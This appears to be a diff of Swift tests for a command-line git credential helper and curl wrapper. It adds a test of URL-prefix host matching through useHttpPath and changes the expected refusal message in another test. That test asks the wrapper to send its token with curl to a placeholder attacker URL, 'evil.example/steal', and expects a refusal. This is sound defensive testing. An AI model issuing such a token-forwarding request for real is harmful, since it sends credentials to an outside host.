@@ -172,6 +172,27 @@ extension Harness {
     #expect(try String(contentsOfFile: h.home.file(".config/strivacity/config.toml"), encoding: .utf8).contains("git_hosts = []"))
   }
 
+  /// A URL-prefix host can only match when git sends the path: setup-git turns that on for the
+  /// prefix, and the real git then gets an answer for a repository under it and none elsewhere.
+  @Test func aURLPrefixHostIsMatchedOnWhatGitSends() throws {
+    let h = try Harness(journey: "password")
+    let server = try GitServer(introspect: h.emulator.issuer)
+    try h.gitProfile(hosts: [])
+    var env = h.environment
+    env["PATH"] = try h.helperPath()
+    let prefix = server.url  // http://127.0.0.1:PORT/repo.git: a prefix with a path
+    let setup = try run([TestEnvironment.binary("strivacity"), "setup-git", "--profile", h.profile, "--host", prefix], environment: env)
+    #expect(setup.status == 0, "\(setup.stderr)")
+    let useHttpPath = try run(["/usr/bin/git", "config", "--global", "--get", "credential.\(prefix).useHttpPath"], environment: env)
+    #expect(useHttpPath.stdout == "true\n")
+    env["GIT_TERMINAL_PROMPT"] = "0"
+    let clone = try run(["/usr/bin/git", "clone", "-q", server.url, h.home.file("work")], environment: env)
+    #expect(clone.status == 0, "\(clone.stderr)")
+    let undo = try run([TestEnvironment.binary("strivacity"), "setup-git", "--profile", h.profile, "--host", prefix, "--undo"], environment: env)
+    #expect(undo.status == 0, "\(undo.stderr)")
+    #expect(try run(["/usr/bin/git", "config", "--global", "--get", "credential.\(prefix).useHttpPath"], environment: env).status == 1)
+  }
+
   @Test func curlGetsTheTokenWithoutArgv() throws {
     let h = try Harness(journey: "password")
     try h.gitProfile(hosts: [])
@@ -215,7 +236,7 @@ extension Harness {
     try h.gitProfile(hosts: [])
     let result = try h.strivacity(["curl", "--profile", h.profile, "--", "-sS", "https://evil.example/steal"])
     #expect(result.status == 2)
-    #expect(result.stderr.contains("refusing to send the token to evil.example"))
+    #expect(result.stderr.contains("refusing to send the token to https://evil.example"))
     let none = try h.strivacity(["curl", "--profile", h.profile, "--", "-sS", "--version"])
     #expect(none.status == 2)
   }
